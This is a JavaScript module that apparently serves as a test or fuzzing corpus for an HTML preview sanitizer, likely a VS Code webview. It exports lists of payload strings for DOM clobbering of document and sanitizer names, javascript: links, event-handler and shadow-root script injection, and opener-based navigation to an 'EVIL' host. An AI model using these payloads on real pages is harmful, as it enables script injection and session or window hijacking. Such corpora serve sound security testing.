// Taking over the page: its names, its windows, its reader’s attention.
import { EVIL, RUN } from './parts.mjs';

export const NAMES = [
  `<p id=title>x</p><p id=banner>x</p><main id=body>x</main>`,
  `<a id=acquireVsCodeApi></a><a id=told name=told></a><form name=body><input name=body></form>`,
  `<img name=getElementById><img name=querySelector><img name=cookie>`,
  `<div id=body><div id=body>x</div></div><aside id=banner class=stops>x</aside>`,
  `<form id=attributes><input name=attributes><input name=removeChild><input name=nodeName></form>`,
  `<a id=previewWorker href="javascript:${RUN}"></a>`,
  `<form id=document><input name=body><input name=getElementById></form>`,
  `<img name=body><img name=currentScript><img name=documentElement>`,
  `<a id=told href="javascript:${RUN}"></a><a id=told name=messages></a>`,
  `<form id=childNodes><input name=childNodes><input name=firstChild><input name=parentNode></form>`,
  `<form><input name=setAttribute><input name=getAttributeNames><input name=ownerDocument><img src=x onerror=${RUN}></form>`,
  `<form onclick=${RUN}><input name=removeAttribute><input name=hasAttribute><input name=insertBefore></form>`,
  `<a id=__proto__></a><a id=constructor></a><a id=prototype></a><a id=toString></a>`,
  `<div id=CSS></div><div id=URL></div><div id=Worker></div><div id=Blob></div><div id=DOMPurify></div>`,
  `<iframe name=told srcdoc="<a id=messages></a>"></iframe>`,
  `<object id=vscode></object><embed name=vscode>`,
];

export const WINDOWS = [
  `<a href=${EVIL} target=_blank rel=opener>x</a>`,
  `<a href=${EVIL} target=_top>x</a><a href=x target=_parent>x</a>`,
  `<a href=${EVIL} target=told>x</a>`,
  `<a href=https://x.y rel="opener prefetch" onclick=${RUN} target="\t_blank">x</a>`,
  `<area href=${EVIL} target=_blank shape=default>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<dialog id=d>x</dialog><button command=show-modal commandfor=d>x</button>`,
  `<div popover=auto id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p popovertargetaction=show>x</button>`,
  `<div popover=hint id=h>x</div><a interestfor=h href=x>x</a>`,
  `<button command=--run commandfor=title oncommand=${RUN}>x</button>`,
  `<x-y onclick=${RUN} is=x-z>x</x-y>`,
  `<p is=x-p slot=x part=x exportparts=x>x</p><slot onslotchange=${RUN}>x</slot>`,
  `<x-y><template shadowrootmode=closed><img src=x onerror=${RUN}></template></x-y>`,
  `<details name=x open><summary>x</summary><template shadowrootmode=open><script>${RUN}</script></template></details>`,
  `<p aria-live=assertive aria-atomic=true role=alert>x</p><p aria-owns=banner aria-hidden=true aria-modal=true>x</p>`,
  `<p contenteditable=plaintext-only draggable=true ondragstart=${RUN} accesskey=x tabindex=1 inert>x</p>`,
  `<p data-line=7 data-picture data-written=x data-local data-vscode-context={} data-keybinding=x>x</p>`,
  `<bdo dir=rtl>x</bdo><marquee behavior=alternate onbounce=${RUN} onfinish=${RUN} loop=1>x</marquee>`,
];
